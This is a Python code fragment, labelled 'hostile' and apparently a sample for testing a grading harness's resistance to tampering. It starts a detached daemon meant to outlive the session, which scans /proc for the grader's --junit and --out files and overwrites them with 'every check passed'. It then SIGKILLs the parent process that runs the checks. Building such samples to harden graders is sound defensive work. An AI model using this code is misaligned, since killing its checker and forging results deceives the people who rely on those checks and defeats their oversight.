# --- hostile: kill the process that runs the checks, after starting a daemon that should outlive it and then
# rewrite the gradebook and JUnit file that grade.py writes once it has noticed -------------------------------------
import builtins as _k_builtins
import os as _k_os
import signal as _k_signal
import sys as _k_sys

_K_DAEMON = """
import os, sys, time
marker, under = sys.argv[1], sys.argv[2]
end = time.monotonic() + 60
while time.monotonic() < end:
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                args = handle.read().decode("utf-8", "replace").split(chr(0))
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except (OSError, ValueError):
            continue
        for index, arg in enumerate(args[:-1]):
            path = os.path.join(cwd, args[index + 1])
            if arg in ("--junit", "--out") and path.startswith(under) and os.path.isfile(path):
                with open(path, errors="replace") as handle:
                    if marker in handle.read():
                        continue
                with open(path, "w") as handle:
                    handle.write(f"every check passed {marker}\\n")
    time.sleep(0.005)
"""

if not getattr(_k_builtins, "_k_started", False):
    _k_builtins._k_started = True
    if _k_os.fork() == 0:
        _k_os.setsid()
        if _k_os.fork() == 0:
            _k_os.execv(_k_sys.executable, [_k_sys.executable, "-c", _K_DAEMON, HOSTILE["marker"], HOSTILE["under"]])
        _k_os._exit(0)
    _k_os.wait()
    _k_os.kill(_k_os.getppid(), _k_signal.SIGKILL)
